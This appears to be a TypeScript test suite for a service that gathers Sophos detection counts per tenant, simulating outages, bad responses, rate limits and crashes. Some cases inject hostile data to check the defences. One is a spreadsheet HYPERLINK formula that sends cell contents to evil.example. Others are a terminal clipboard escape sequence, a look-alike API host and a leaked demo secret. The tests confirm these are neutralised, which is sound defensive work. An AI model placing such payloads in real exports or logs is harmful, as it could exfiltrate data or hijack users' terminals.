import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { hostileNames } from '../../local/simulator/distort.ts'
import { type Line, startLine } from './line.ts'

const id = (n: number) => `00000000-0000-4000-8000-${String(n).padStart(12, '0')}`
const tenants = Array.from({ length: 40 }, (_, n) => ({ id: id(n), detectionsPerDay: 50 }))

describe('one run with every kind of failure', () => {
  let line: Line
  let result: Awaited<ReturnType<Line['invoke']>>

  beforeAll(async () => {
    const odd = [
      { access: 'unlicensed' },
      { access: 'unmanaged' },
      { apiHost: null },
      { apiHost: 'https://api-eu01.central.sophos.com.evil.example' },
      { apiHost: '' },
    ] as const
    line = await startLine({ simulator: { tenants: tenants.map((tenant, n) => ({ ...tenant, ...odd[n] })) } })
    const { add } = line.simulator.faults
    const counts = { endpoint: 'counts' } as const
    add({ ...counts, tenantId: id(10), kind: 'status', status: 500, times: 1 })
    add({ ...counts, tenantId: id(11), kind: 'status', status: 503, body: '<html>busy</html>', times: 2 })
    add({ ...counts, tenantId: id(12), kind: 'reset', times: 1 })
    add({ ...counts, tenantId: id(13), kind: 'garbage', as: 'html', times: 1 })
    add({ ...counts, tenantId: id(14), kind: 'garbage', as: 'json', times: 1 })
    add({ ...counts, tenantId: id(15), kind: 'expireTokens', times: 1 })
    add({
      ...counts,
      tenantId: id(16),
      kind: 'status',
      status: 429,
      headers: { 'retry-after': '1' },
      times: 1,
    })
    add({
      ...counts,
      tenantId: id(17),
      kind: 'status',
      status: 404,
      body: { error: 'notFound', message: 'No such thing' },
    })
    add({
      ...counts,
      tenantId: id(18),
      kind: 'status',
      status: 400,
      body: { message: 'Bad form: client_secret=demo-secret \u001b]52;c;eA==\u0007\u202eend' },
    })
    add({
      ...counts,
      tenantId: id(19),
      kind: 'status',
      status: 500,
      body: { message: 'An unexpected error occurred' },
    })
    add({ ...counts, tenantId: id(20), kind: 'reset' })
    add({ ...counts, tenantId: id(21), kind: 'garbage', as: 'html' })
    add({ ...counts, tenantId: id(22), kind: 'noSeverities' })
    add({ ...counts, tenantId: id(23), kind: 'status', status: 401, body: { error: 'Unauthorized' } })
    // The query API, the fallback, fails for these as well.
    add({
      endpoint: 'runStart',
      tenantId: id(19),
      kind: 'status',
      status: 500,
      body: { message: 'An unexpected error occurred' },
    })
    add({ endpoint: 'runStart', tenantId: id(20), kind: 'reset' })
    add({ endpoint: 'runStart', tenantId: id(21), kind: 'garbage', as: 'html' })
    add({ ...counts, tenantId: id(24), kind: 'status', status: 500 })
    add({ endpoint: 'partnerTenants', kind: 'noPageTotal' })
    result = await line.invoke()
  })
  afterAll(() => line.close())

  it('succeeds, with a row for each listed tenant', async () => {
    expect(result).toMatchObject({ ok: true, value: { result: 'complete' } })
    const rows = await line.rows()
    expect(rows.map(({ ID }) => ID).sort()).toEqual(tenants.map(tenant => tenant.id).sort())
  })

  it.each([
    ['a 500', 10],
    ['two 503s in HTML', 11],
    ['a reset', 12],
    ['a web page instead of JSON', 13],
    ['incomplete JSON', 14],
    ['a token that expired during the run', 15],
    ['a 429', 16],
  ])('recovers from %s', async (_, n) => {
    await expect(line.row(id(n))).resolves.toMatchObject({
      Status: 'ok',
      Reason: '',
      Detections_Critical: expect.stringMatching(/^\d+$/),
      Detections_Total: expect.stringMatching(/^\d+$/),
    })
  })

  it.each([
    ['no licence', 0, 'forbidden', /XDR or MDR licence/],
    ['no partner assistance', 1, 'forbidden', /Forbidden/],
    ['no apiHost', 2, 'inactive', /not activated/],
    ['an apiHost elsewhere', 3, 'failed', /evil\.example.*was not contacted/],
    ['an empty apiHost', 4, 'inactive', /not activated/],
    ['404', 17, 'not_found', /No such thing/],
    ['400', 18, 'failed', /Sophos answered 400/],
    ['500 that stays', 19, 'failed', /Sophos answered 500\. Sophos said: An unexpected error occurred/],
    ['permanent resets', 20, 'failed', /cannot be reached/],
    ['permanent web pages', 21, 'failed', /not JSON/],
    ['401 that stays', 23, 'failed', /Sophos answered 401/],
  ])('shows %s as a status with a reason, and unknown counts as empty', async (_, n, status, reason) => {
    await expect(line.row(id(n))).resolves.toMatchObject({
      Status: status,
      Reason: expect.stringMatching(reason),
      Detections_Critical: '',
      Detections_Info: '',
      Detections_Total: '',
      Collected_At: '',
      Hourly: '',
    })
  })

  it('quotes Sophos without secrets, and without what commands a terminal', async () => {
    const { Reason } = (await line.row(id(18))) ?? {}
    expect(Reason).toBe('Sophos answered 400. Sophos said: Bad form: client_secret=*** ]52;c;eA==end.')
    expect(line.logs.join('\n')).not.toMatch(/demo-secret|\\u001b|\u202e/)
  })

  it('uses the query API for a tenant if its counts keep failing', async () => {
    await expect(line.row(id(24))).resolves.toMatchObject({
      Status: 'ok',
      Method: 'query',
      Detections_Total: expect.stringMatching(/^[1-9]\d*$/),
    })
  })

  it('shows only a total if Sophos gives no severities', async () => {
    await expect(line.row(id(22))).resolves.toMatchObject({
      Status: 'ok',
      Detections_Critical: '',
      Detections_Total: expect.stringMatching(/^[1-9]\d*$/),
      Reason: expect.stringMatching(/did not report the severities/),
    })
  })

  it('limits the retries of permanent failures, and does not retry refusals', () => {
    const calls = (n: number) =>
      line.simulator.log.filter(({ endpoint, tenantId }) => endpoint === 'counts' && tenantId === id(n))
    // Two tries, then the query API.
    expect([19, 20, 21, 24].map(n => calls(n).length)).toEqual([2, 2, 2, 2])
    expect([0, 1, 17, 18].map(n => calls(n).length)).toEqual([1, 1, 1, 1])
    expect([2, 3, 4].map(n => calls(n).length)).toEqual([0, 0, 0])
  })
})

describe('the next run', () => {
  it('keeps the last good counts of a failing tenant with their age, and shows names as text', async () => {
    const line = await startLine({ simulator: { tenants: tenants.slice(0, 14) } })
    try {
      await line.invoke()
      const before = await line.row(id(3))
      line.simulator.faults.add({ endpoint: 'counts', tenantId: id(3), kind: 'status', status: 403 })
      line.simulator.faults.add({ endpoint: 'partnerTenants', kind: 'hostileNames' })
      await line.invoke()
      const { Name: _, ...counts } = before ?? {}
      await expect(line.row(id(3))).resolves.toMatchObject({
        ...counts,
        Status: 'forbidden',
        Reason: expect.stringMatching(/licence/),
      })
      const names = (await line.rows()).map(({ Name }) => Name ?? '')
      expect(names).toHaveLength(hostileNames.length)
      expect(names).toEqual(
        expect.arrayContaining([
          `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
          "'+1-555-0100",
          'two lines, "quoted"',
        ]),
      )
      for (const name of names) expect(name).not.toMatch(/^[=+\-@]|\p{Cc}/u)
    } finally {
      await line.close()
    }
  })

  it.each([
    [
      'the token is refused',
      { endpoint: 'token', kind: 'status', status: 401, body: { errorCode: 'oauth.invalid_client_secret' } },
      /refused the credentials \(oauth\.invalid_client_secret\)\. Check that the secret/,
    ],
  ] as const)('leaves the rows unchanged if %s, reports the reason, and fails', async (_, fault, message) => {
    const line = await startLine({ simulator: { tenants: tenants.slice(0, 3) } })
    try {
      await line.invoke()
      const before = await line.object('detections.csv')
      const remove = line.simulator.faults.add(fault)
      await expect(line.invoke()).resolves.toMatchObject({
        ok: false,
        errorType: 'RunFailedError',
        errorMessage: expect.stringMatching(message),
      })
      await expect(line.object('detections.csv')).resolves.toBe(before)
      expect(JSON.parse(await line.object('status.json'))).toMatchObject({
        tenants: { total: 3, byStatus: { ok: 3 } },
        sources: [{ run: { result: 'failed', message: expect.stringMatching(message) } }],
      })
      remove()
      await expect(line.invoke()).resolves.toMatchObject({ ok: true, value: { result: 'complete' } })
    } finally {
      await line.close()
    }
  })

  it.each([
    [
      'whoami fails',
      { endpoint: 'whoami', kind: 'status', status: 403 },
      /did not say whose credential.*role/,
    ],
    [
      'a page of the list fails',
      { endpoint: 'partnerTenants', kind: 'status', status: 400, body: { message: 'Odd' } },
      /did not give the list of tenants: Sophos answered 400, "Odd"/,
    ],
  ] as const)('asks the tenants that it knows if %s, and reports the reason', async (_, fault, message) => {
    const line = await startLine({ simulator: { tenants: tenants.slice(0, 3) } })
    try {
      await line.invoke()
      line.simulator.faults.add(fault)
      await expect(line.invoke()).resolves.toMatchObject({ ok: true, value: { result: 'complete' } })
      expect(JSON.parse(await line.object('status.json'))).toMatchObject({
        tenants: { total: 3, byStatus: { ok: 3 } },
        sources: [{ run: { counts: { collected: 3 }, message: expect.stringMatching(message) } }],
      })
    } finally {
      await line.close()
    }
  })

  it.each([
    ['is not JSON', 'hello hunter2'],
    ['lacks the client secret', '{"clientId":"hunter2"}'],
    ['is empty', '{"clientId":"","clientSecret":"hunter2"}'],
  ])('explains the format of a secret that %s, without printing it', async (_, secret) => {
    const line = await startLine({ simulator: { tenants: 1 }, secret })
    try {
      await expect(line.invoke()).resolves.toMatchObject({
        ok: false,
        errorMessage: expect.stringMatching(
          /The secret credentials holds no credentials\. Put \{"clientId": "\.\.\."/,
        ),
      })
      expect(line.simulator.log).toEqual([])
      expect([...line.logs, await line.object('status.json')].join('\n')).not.toContain('hunter2')
    } finally {
      await line.close()
    }
  })

  it('does not wait for a budget beyond its time: it publishes its data and leaves the rest to the next run', async () => {
    const line = await startLine({
      simulator: { tenants: 30 },
      env: { SOPHOS_RATE_LIMITS: '20/m' },
      timeoutMs: 20_000,
    })
    try {
      await expect(line.invoke()).resolves.toMatchObject({
        ok: true,
        value: {
          result: 'partial',
          calls: { made: 20 },
          message: expect.stringMatching(
            /left for the next run: The run's time is up before there is room in the budget of 20\/m/,
          ),
        },
      })
      const rows = await line.rows()
      expect(rows).toHaveLength(30)
      expect(rows.filter(({ Status }) => Status === 'pending').length).toBeGreaterThanOrEqual(12)
      await expect(line.invoke()).resolves.toMatchObject({
        ok: true,
        value: {
          result: 'partial',
          calls: { made: 0 },
          message: expect.stringMatching(
            /^No tenant was asked in this run: The run's time is up before there is room in the budget of 20\/m/,
          ),
        },
      })
      await expect(line.rows()).resolves.toEqual(rows)
    } finally {
      await line.close()
    }
  })
})

describe('a process that is killed', () => {
  it('during a run leaves the rows unchanged, and no other run starts until the lease ends', async () => {
    const line = await startLine({
      simulator: { tenants: tenants.slice(0, 20), latency: { min: 20, max: 60 } },
    })
    try {
      await line.invoke()
      const before = await line.rows()
      const killed = line.invoke()
      while (line.simulator.log.filter(({ endpoint }) => endpoint === 'counts').length < 25) {
        await new Promise(resolve => setTimeout(resolve, 5))
      }
      await line.kill()
      await expect(killed).resolves.toMatchObject({ ok: false, errorType: 'Runtime.ExitError' })
      await expect(line.rows()).resolves.toEqual(before)
      await expect(line.invoke()).resolves.toMatchObject({
        ok: true,
        value: { result: 'skipped', message: expect.stringMatching(/^Another run is under way since/) },
      })
    } finally {
      await line.close()
    }
  })
})
